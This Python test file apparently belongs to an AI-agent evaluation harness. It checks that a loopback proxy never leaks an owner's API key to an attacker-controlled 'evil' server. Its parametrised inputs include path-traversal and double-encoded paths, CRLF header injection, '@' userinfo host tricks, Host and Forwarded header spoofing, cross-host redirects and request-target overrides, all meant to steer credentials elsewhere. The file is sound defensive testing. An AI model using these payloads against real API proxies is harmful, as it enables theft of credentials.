"""An agent that means harm gets the owner's key nowhere: an 'evil' server stands by and must see nothing."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import httpx
import openai
import pytest
from fake_endpoint import FakeEndpoint
from raw_http import raw
from starlette.responses import RedirectResponse

from sharpen.placement.auxiliary.remote import RemoteModel

KEY = "sk-the-owners-key"
ASK = {"model": "m", "messages": [{"role": "user", "content": "hello"}]}


@pytest.fixture(scope="module")
def evil() -> Iterator[FakeEndpoint]:
    """The server that an attacker reads."""
    server = FakeEndpoint()
    yield server
    server.stop()


@pytest.fixture
def judge(
    endpoint: FakeEndpoint, make_config: Any, open_models: Any, monkeypatch: pytest.MonkeyPatch, evil: FakeEndpoint
) -> Any:
    """An auxiliary model as an attempt has it, at an endpoint with the owner's key."""
    evil.keys.clear()
    evil.others.clear()
    monkeypatch.setenv("JUDGE_KEY", KEY)
    models = open_models(make_config(judge={"base_url": endpoint.url, "api_key_env": "JUDGE_KEY"}))
    return models.open("g/0", 1).auxiliary_models["judge"]


def post(judge: Any, target: str, *headers: str) -> bytes:
    """Send a request to the loopback server as these very bytes, and return the answer."""
    return raw(judge.base_url, target, *headers, key=judge.api_key, body=ASK)


TARGETS: list[Callable[[str], str]] = [
    lambda evil: f"/v1@{evil}/chat/completions",
    lambda evil: f"/v1.{evil}/chat/completions",
    lambda evil: f"//{evil}/v1/chat/completions",
    lambda evil: f"/v1//{evil}/chat/completions",
    lambda evil: f"/v1/http://{evil}/chat/completions",
    lambda evil: f"http://{evil}/v1/chat/completions/x",
    lambda evil: f"http://{evil}/v2/chat/completions",
    lambda _: "/v1/../../steal",
    lambda _: "/v1/%2e%2e/%2e%2e/steal",
    lambda _: "/v1/%252e%252e/steal",
    lambda _: "/v1/..%2f..%2fsteal",
    lambda _: "/v1/chat/completions/../../../steal",
    lambda _: "/v1/chat%2Fcompletions%2F..%2F..%2Fsteal",
    lambda _: "/v1/chat/completions%0d%0aX-Evil:%201",
    lambda _: "/v1/chat/completions%3f@steal",
    lambda _: "/v1/chat\\..\\..\\steal",
    lambda evil: f"/v1/models/@{evil}",
    lambda _: "/v1/fine_tuning/jobs",
]


@pytest.mark.parametrize("number", range(len(TARGETS)))
def test_over_the_loopback_the_key_goes_to_listed_routes_alone(
    endpoint: FakeEndpoint, evil: FakeEndpoint, judge: Any, number: int
) -> None:
    target = TARGETS[number](urlsplit(evil.url).netloc)
    answer = post(judge, target)
    assert answer.split()[1] in (b"400", b"404")
    assert KEY.encode() not in answer
    assert [*evil.keys, *evil.others, *endpoint.keys, *endpoint.others] == []


@pytest.mark.parametrize("header", ["Host: {}", "Host: {}@here", "X-Forwarded-Host: {}", "Forwarded: host={}"])
def test_no_header_leads_elsewhere(endpoint: FakeEndpoint, evil: FakeEndpoint, judge: Any, header: str) -> None:
    """It is answered by the owner's endpoint, or not at all."""
    own = f"Host: {urlsplit(judge.base_url).netloc}"
    line = header.format(urlsplit(evil.url).netloc)
    post(judge, "/v1/chat/completions", *([line] if line.startswith("Host") else [own, line]))
    assert [*evil.keys, *evil.others] == []
    assert endpoint.keys in ([KEY], [])


def redirected(location: str) -> Callable[[dict[str, Any]], Any]:
    return lambda body: RedirectResponse(location, status_code=307)


def test_a_redirect_is_not_followed_to_another_host(endpoint: FakeEndpoint, evil: FakeEndpoint, judge: Any) -> None:
    """Neither by the loopback server, nor by the SDK's own clients, which follow redirects."""
    endpoint.answer = redirected(f"{evil.url}/chat/completions")
    assert post(judge, "/v1/chat/completions").split()[1] == b"307"
    with pytest.raises(openai.PermissionDeniedError):
        judge.sync_client.chat.completions.create(**ASK)
    endpoint.answer = redirected("/steal")
    with pytest.raises(openai.NotFoundError):
        judge.sync_client.chat.completions.create(**ASK)
    assert [*evil.keys, *evil.others, *endpoint.others] == []


def own_client(judge: Any) -> httpx.Client:
    """The `httpx` client within the SDK's, as code in the run's own process gets at it."""
    client: httpx.Client = judge.sync_client._client
    return client


CLIENTS: list[Callable[[Any, FakeEndpoint, FakeEndpoint], Any]] = [
    lambda judge, _, evil: judge.sync_client.with_options(base_url=evil.url, max_retries=0).models.list(),
    lambda judge, _, evil: judge.sync_client.post(f"{evil.url}/chat/completions", body=ASK, cast_to=httpx.Response),
    lambda judge, _, evil: judge.sync_client.post(
        evil.url.replace("://", "://127.0.0.1@"), body=ASK, cast_to=httpx.Response
    ),
    lambda judge, home, _: judge.sync_client.post(f"{home.url}/../steal", body=ASK, cast_to=httpx.Response),
    lambda judge, home, _: own_client(judge).post(
        f"{home.url}/chat/completions",
        json=ASK,
        headers={"Authorization": f"Bearer {judge.api_key}"},
        extensions={"target": b"/steal"},
    ),
    lambda judge, home, evil: own_client(judge).post(
        f"{home.url}/chat/completions",
        json=ASK,
        headers={"Authorization": f"Bearer {judge.api_key}"},
        extensions={"target": f"{evil.url}/steal".encode()},
    ),
]


@pytest.mark.parametrize("number", range(len(CLIENTS)))
def test_a_client_in_the_process_takes_it_nowhere_either(
    endpoint: FakeEndpoint, evil: FakeEndpoint, judge: Any, number: int
) -> None:
    """Red with the request's extensions passed on: `target` replaced the path that was checked."""
    with contextlib.suppress(openai.OpenAIError, httpx.HTTPError):
        CLIENTS[number](judge, endpoint, evil)
    assert [*evil.keys, *evil.others, *endpoint.others] == []


def test_the_key_is_no_ones_to_see(endpoint: FakeEndpoint, judge: Any) -> None:
    """Not in what an attempt is given, not by httpx's trace of its own request, and sent in no other header. Red when
    the attempt's key is replaced in every header: an endpoint that is not trusted with it may be told to repeat one."""
    seen: list[str] = []
    own_client(judge).post(
        f"{endpoint.url}/chat/completions",
        json=ASK,
        headers={"Authorization": f"Bearer {judge.api_key}", "X-Copy": judge.api_key},
        extensions={"trace": lambda name, info: seen.append(f"{name} {info}")},
    )
    (headers,) = endpoint.headers
    assert (headers["authorization"], headers["x-copy"]) == (f"Bearer {KEY}", judge.api_key)
    assert not seen
    assert KEY not in json.dumps([judge.api_key, judge.base_url, *judge.environment().values()])
    assert KEY not in f"{vars(judge)} {vars(judge.sync_client)}"


def test_an_agent_that_is_evaluated_at_an_endpoint_does_not_have_its_key(endpoint: FakeEndpoint) -> None:
    """Red with the endpoint's own URL and key given to the agent: a command found both in its environment."""
    remote = RemoteModel(name="policy", model_name="m", base_url=endpoint.url, api_key=KEY)
    try:
        model = remote.open("eval/0", 1).model
        assert KEY not in (model.api_key, *model.environment().values())
        with openai.OpenAI(base_url=model.base_url, api_key=model.api_key, max_retries=0) as other:
            assert other.chat.completions.create(**ASK).choices[0].message.content == "good"
        assert endpoint.keys == [KEY]
    finally:
        remote.close()


def test_a_name_and_a_password_in_the_url_are_sent_and_told_to_nobody(
    endpoint: FakeEndpoint, make_config: Any, open_models: Any, caplog: pytest.LogCaptureFixture
) -> None:
    """Red with the URL as it was given: the failure of a rollout, which run.db keeps, had the password, and so had
    httpx's log."""
    caplog.set_level("DEBUG")
    url = endpoint.url.replace("://", "://owner:hunter2hunter2@")
    session = open_models(make_config(judge={"base_url": url})).open("g/0", 1)
    judge = session.auxiliary_models["judge"]
    judge.sync_client.chat.completions.create(**ASK)
    assert endpoint.keys[0].startswith("Basic ")
    endpoint.answer = lambda body: RedirectResponse("/steal", status_code=500)
    with pytest.raises(openai.InternalServerError):
        judge.sync_client.with_options(max_retries=0).chat.completions.create(**ASK)
    assert session.auxiliary_failure is not None
    assert "hunter2" not in f"{session.auxiliary_failure} {judge.sync_client.base_url} {judge.base_url}"
    assert "/chat/completions" in caplog.text
    assert "hunter2" not in caplog.text
    session.end()
